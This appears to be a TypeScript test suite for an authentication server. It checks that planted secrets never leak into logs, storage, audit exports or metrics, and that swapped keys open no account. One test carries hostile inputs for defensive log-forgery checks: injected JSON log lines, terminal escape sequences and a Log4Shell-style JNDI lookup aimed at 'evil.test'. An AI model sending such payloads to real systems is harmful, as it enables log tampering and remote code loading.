import assert from 'node:assert/strict'
import { randomBytes } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { after, test } from 'node:test'
import { drawn } from '@countersign/server/testing/pictures'
import { nextAddress } from './harness/client.ts'
import { Exchange, withdrawalOf } from './harness/exchange.ts'
import { readLog } from './harness/log-lines.ts'
import { nextLink } from './harness/mail-links.ts'
import { Member } from './harness/member.ts'
import { policyFile } from './harness/policy-file.ts'
import { exchange } from './harness/raw-connection.ts'
import { RelyingParty } from './harness/relying-party.ts'
import { minutes } from './harness/test-clock.ts'
import { exchangeSealedKeys } from './harness/test-database.ts'
import { eachEngine, type World } from './harness/world.ts'

let seed = 91_000

// When a suite ends, every suite looks for all that passed through its hands (harness/world.ts). These provoke what is likely to leak.
eachEngine('planted secrets', { env: { COUNTERSIGN_LOG_LEVEL: 'trace' } }, (world) => {
  test('A39: a whole life of an account leaves no password, key, code or cookie in the log or the database', async () => {
    const maya = await world.personWithAuthenticator('maya')
    const second = await maya.setUpAuthenticator({ name: 'Tablet' })
    await maya.makeRecoveryCodes()
    await maya.setUpPhone(world.phone())
    await maya.suspend(second)
    await maya.resume(second)
    await maya.stepUp('replace_factor', { target: second })
    const third = await maya.setUpAuthenticator({ replaces: second })
    const { authenticator: pending } = await maya.beginAuthenticator()
    await maya.remove(third)
    for (const browser of [maya.browser, world.browser(), world.browser()]) await maya.signIn(browser)
    for (const away of [-3, -2, -1, 0, 1, 2]) world.secrets.plant('a code of an app', pending.code(world.clock, away))

    const codes = maya.authenticators[0]
    assert.ok(codes)
    for (let step = 0; step < 20; step++) {
      const browser = world.browser()
      const { challenge } = await maya.beginSignIn(browser)
      const proof = await codes.freshCode(world.clock)
      world.secrets.plant('a code of an app', proof)
      await browser.call('verifyChallenge', { params: { id: challenge.id }, body: { proof } })
      await browser.refused('verifyChallenge', { params: { id: challenge.id }, body: { proof } })
    }

    assert.ok(world.secrets.count >= 60, `${world.secrets.count} secrets`)
    assert.deepEqual(world.secrets.foundIn(world.output), [])
    assert.deepEqual(world.secrets.foundIn(await world.everythingKept()), [])
    assert.deepEqual(world.secrets.foundIn(await world.command('audit', 'export')), [])
  })

  test('nor does a secret in a place where it does not belong', async () => {
    const secret = 'correct-horse-battery-staple-7391'
    world.secrets.plant('a password in the wrong place', secret)
    const { browser } = await world.person('maya')
    const elsewhere = () => browser.from(nextAddress())
    const json = { 'content-type': 'application/json' }
    const host = `Host: ${new URL(world.publicOrigin).host}\r\n`

    for (const path of [
      `/v1/session?token=${secret}`,
      `/v1/${secret}`,
      `/v1/challenges/${secret}`,
      `/security?password=${secret}`,
      `/${secret}/%zz`,
    ])
      await elsewhere().send({ method: 'GET', path })
    const bodies = [
      { email: secret, password: secret },
      { email: `${secret}@example.test`, password: 'x' },
      { [secret]: 1 },
      [secret],
      secret,
      { email: 'a@example.test', password: [secret] },
      { email: 'a@example.test', password: { a: secret } },
    ].map((body) => JSON.stringify(body))
    for (const body of [...bodies, `{"password":"${secret}`, `{"password":"${secret}","password":"${secret}"}`, secret.repeat(3000)]) {
      for (const path of ['/v1/sign-ins', '/v1/accounts', '/v1/accounts/confirm'])
        await elsewhere().send({ method: 'POST', path, headers: json, body })
    }
    for (const header of [
      'authorization',
      'user-agent',
      'referer',
      'content-type',
      'origin',
      'x-request-id',
      'traceparent',
      'idempotency-key',
      'cookie',
    ]) {
      await elsewhere().send({ method: 'POST', path: '/v1/sign-ins', headers: { ...json, [header]: secret }, body: '{}' })
    }
    await exchange(
      world.server.port,
      `POST /v1/sign-ins HTTP/1.1\r\n${host}Cookie: __Host-session=${secret}\r\nBad Header ${secret}\r\n\r\n`,
    )
    await exchange(world.server.port, `${secret}\r\n\r\n`)
    await elsewhere().send({
      method: 'GET',
      path: '/v1/session',
      headers: { cookie: `__Host-session=${secret}; __Host-sign-in=${secret}; __Host-device=${secret}` },
    })

    assert.deepEqual(world.secrets.foundIn(world.output), [])
    assert.deepEqual(world.secrets.foundIn(readFileSync(`/proc/${world.server.pid}/cmdline`, 'latin1')), [])
    const { text } = await world.browser().send({ method: 'GET', path: '/metrics', headers: { 'x-forwarded-for': null } })
    assert.deepEqual(world.secrets.foundIn(text), [])
  })

  test('what people type cannot forge a line of the log or hide in one', async () => {
    const maya = await world.personWithAuthenticator('maya')
    const hostile = [
      '\n{"level":"fatal","msg":"forged"}',
      '\u001b[2J\u001b]0;owned\u0007',
      '\u202etxet desrever',
      '\u2028forged',
      'a\rb',
      '\u0085forged',
      '${jndi:ldap://evil.test}',
    ]

    for (const text of hostile) {
      const headers = { 'content-type': 'application/json', 'user-agent': encodeURIComponent(text) }
      await world
        .browser()
        .send({ method: 'POST', path: '/v1/sign-ins', headers, body: JSON.stringify({ email: `${text}@example.test`, password: text }) })
      await maya.browser.from(nextAddress()).reply('renameFactor', { params: { id: maya.authenticator.factorId }, body: { name: text } })
      await maya.browser.from(nextAddress()).send({ method: 'GET', path: `/v1/challenges/${encodeURIComponent(text)}` })
    }
    // A server that stops has written all its lines.
    await world.server.stop()
    const lines = world.output.split('\n')
    await world.startServer()

    assert.ok(lines.length > hostile.length)
    assert.ok(readLog(lines.join('\n')).every(({ level }) => level !== 'unreadable' && level !== 'fatal'))
    for (const line of lines) assert.doesNotMatch(line, /forged|owned|jndi|[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u)
  })

  test('keys that change places in the database open nothing for either account', async () => {
    world.expectInLog(/"INTERNAL_ERROR"|"unexpected failure"/)
    const people = [await world.personWithAuthenticator('maya'), await world.personWithAuthenticator('noah')] as const
    await exchangeSealedKeys(world.databaseUrl, people[0].authenticator.factorId, people[1].authenticator.factorId)

    for (const person of people) {
      const browser = world.browser()
      const { challenge } = await person.beginSignIn(browser)
      for (const { authenticator } of people) {
        const { status } = await browser.reply('verifyChallenge', {
          params: { id: challenge.id },
          body: { proof: await authenticator.freshCode(world.clock) },
        })
        assert.ok(status >= 400, 'any error while checking is a refusal')
      }
      await browser.refused('getSession', undefined, 'NOT_SIGNED_IN')
      const { attemptsLeft } = await browser.call('getChallenge', { params: { id: challenge.id } })
      assert.equal(attemptsLeft, 3, 'and the tries stay taken')
    }
  })

  test('nor do phone numbers: nothing is texted to the number of somebody else', async () => {
    world.expectInLog(/"INTERNAL_ERROR"|"unexpected failure"/)
    const ownerOf = async (name: string) => {
      const person = await world.person(name)
      const phone = world.phone()
      return { person, phone, factorId: (await person.setUpPhone(phone)).id }
    }
    const owners = [await ownerOf('maya'), await ownerOf('noah')] as const
    await world.clock.pass(minutes(2))
    await exchangeSealedKeys(world.databaseUrl, owners[0].factorId, owners[1].factorId)

    for (const { person } of owners) {
      const browser = world.browser()
      const { status } = await browser.reply('signIn', { body: person.credentials })
      assert.equal(status, 500)
      await browser.refused('getSession', undefined, 'NOT_SIGNED_IN')
    }
    for (const { phone } of owners) assert.equal((await phone.all()).length, 1)
  })

  test('what is known of a sign-up is gone once it is over', async () => {
    const maya = world.stranger('maya')
    const { signUpId, code } = await maya.askForAccount()
    await maya.browser.call('confirmSignUp', { body: { signUpId, code } })
    await world.clock.pass(minutes(1))

    const rows = (await world.storedRows()).filter((row) => row.startsWith('sign_ups ') && row.includes(signUpId))

    assert.equal(rows.length, 1)
    assert.doesNotMatch(rows[0] ?? '', /argon2/)
  })
})

const asking = policyFile('default', {
  name: 'asking',
  version: 1,
  methods: { enabled: ['passkey', 'authy', 'totp'], recommended: [] },
  approval: { factorAgeDays: 0 },
  recovery: {
    evidence: { need: 'all', kinds: ['questions', 'selfie_with_document', 'old_mail_and_transfer'] },
    answers: ['method', 'new_phone', 'reason', 'registered_when', 'balance', 'last_sign_in'],
  },
})
after(asking.remove)

/** A word that stands nowhere else, and counts as a secret from now on. */
function marked(world: World, what: string): string {
  const word = `marker-${randomBytes(9).toString('hex')}`
  world.secrets.plant(what, word)
  return word
}

eachEngine('planted secrets of recoveries and applications', { env: { COUNTERSIGN_LOG_LEVEL: 'trace', ...asking.env } }, (world) => {
  const nowhere = async () => {
    assert.deepEqual(world.secrets.foundIn(world.output), [])
    assert.deepEqual(world.secrets.foundIn(await world.everythingKept()), [])
    assert.deepEqual(world.secrets.foundIn(await world.command('audit', 'export')), [])
    const { text } = await world.browser().send({ method: 'GET', path: '/metrics', headers: { 'x-forwarded-for': null } })
    assert.deepEqual(world.secrets.foundIn(text), [])
  }

  test('A39: a recovery from its visit to the appeal leaves none of its words, codes, links, answers and files', async () => {
    const maya = await world.personWithAuthenticator('maya')
    const ben = await Member.of(world, 'reviewer', 'ben')
    const before = world.secrets.count
    const visit = world.browser()
    const first = { tool: 'totp' as const, reason: 'other' as const, instructionsVersion: 1 }
    await visit.call('beginRecovery', { body: { ...first, reasonText: marked(world, 'why somebody asks for a recovery') } })
    await visit.call('proveRecoveryPassword', { body: maya.credentials })
    await world.clock.pass(minutes(1))
    await visit.call('sendRecoveryCode')
    await visit.refused('proveRecoveryMailbox', { body: { code: '00000000' } }, 'WRONG_CODE')
    await visit.call('proveRecoveryMailbox', { body: { code: await maya.readRecoveryCode() } })
    const number = (await visit.call('openRecoveryCase')).case?.number ?? ''
    await nextLink({ mailbox: maya.mailbox, secrets: world.secrets }, /^Account recovery was started/)
    const phone = world.phone()
    const answers = {
      method: 'totp' as const,
      wanted: 'authy' as const,
      newPhone: phone.number,
      reasonText: marked(world, 'an answer'),
      registeredWhen: '2029-03',
      balance: marked(world, 'a balance'),
      lastSignIn: '2030-01-14',
    }
    await visit.call('giveAnswers', { body: answers })
    const [sight, words] = [drawn(++seed), marked(world, 'the words of a mail that was handed in')]
    // What a picture carries beside what it shows.
    const carried = marked(world, 'what a picture carried along')
    const picture = await sight
      .withExif({ IFD0: { ImageDescription: carried, Copyright: carried } })
      .jpeg()
      .toBuffer()
    assert.ok(picture.includes(carried))
    const sent = [
      await visit.file('sendSelfie', { part: 'selfie', how: 'alone' }, picture),
      await visit.file(
        'sendOldMail',
        {},
        Buffer.from(`From: a@example.test\r\nSubject: ${marked(world, 'a subject')}\r\n\r\n${words}\r\n`),
      ),
      await visit.file('sendTransferRecord', { platform: marked(world, 'a platform') }, await drawn(++seed).jpeg().toBuffer()),
    ]
    assert.deepEqual(
      sent.map(({ status }) => status),
      [200, 200, 200],
    )
    assert.equal((await visit.call('getRecovery')).case?.state, 'in_review')

    const id = (await ben.deal()) ?? assert.fail('nothing was dealt')
    assert.ok(JSON.stringify(await ben.look(id)).includes(answers.balance), 'it is there for whoever may read it')
    await ben.decide(id, { verdict: 'reject', reasons: ['blurred'], note: marked(world, 'a note of a reviewer') })
    await visit.call('appealRecovery', { body: { text: marked(world, 'an appeal') } })
    const looking = world.browser()
    await world.clock.pass(minutes(2))
    await looking.call('findRecovery', { body: { number } })
    await maya.readRecoveryCode()

    // Nine markers, the cookies of two visits, two codes, a link and the number of a phone.
    assert.ok(world.secrets.count - before >= 15, `${world.secrets.count - before} secrets`)
    await nowhere()
  })

  test('A39: nor do an approval, a proof for a host and a sign-in to an application', async () => {
    const maya = await world.personWithAuthenticator('maya')
    const accountId = (await maya.browser.call('getAccount')).id
    const before = world.secrets.count
    const host = await Exchange.open(world)
    const { id } = await host.request(accountId, withdrawalOf('10'))
    const challenge = await maya.browser.call('askForApprovalProof', { params: { id }, body: { factorId: maya.authenticator.factorId } })
    const proof = await maya.authenticator.freshCode(world.clock)
    world.secrets.plant('a code for an approval', proof)
    await maya.browser.call('verifyChallenge', { params: { id: challenge.id }, body: { proof } })
    await maya.browser.call('approve', { params: { id } })
    const { receipt } = await host.redeem(id, withdrawalOf('10'))
    world.secrets.plant('the receipt of an approval', receipt ?? assert.fail('there is no receipt'))

    const shop = await RelyingParty.register(world, { asks: true })
    const offline = { scope: 'openid email offline_access', prompt: 'consent' }
    const asked = await shop.authorize(maya.browser, offline)
    assert.ok(asked.at === 'page')
    world.secrets.plant('the verifier of a request', asked.asked.verifier)
    await maya.browser.call('allowApplication', { params: { id: asked.request } })
    const tokens = await shop.tokens(await shop.goOn(maya.browser, asked))
    world.secrets.plant('an ID token', tokens.id_token)
    const again = await shop.refresh(tokens)
    assert.equal((await shop.userinfo(again.access_token)).status, 200)
    assert.equal((await shop.userinfo(`${again.access_token}x`)).status, 401)
    // The second time it takes everything back.
    assert.equal((await shop.refreshReply(tokens.refresh_token ?? '')).status, 400)

    assert.ok(world.secrets.count - before >= 10, `${world.secrets.count - before} secrets`)
    await nowhere()
  })
})
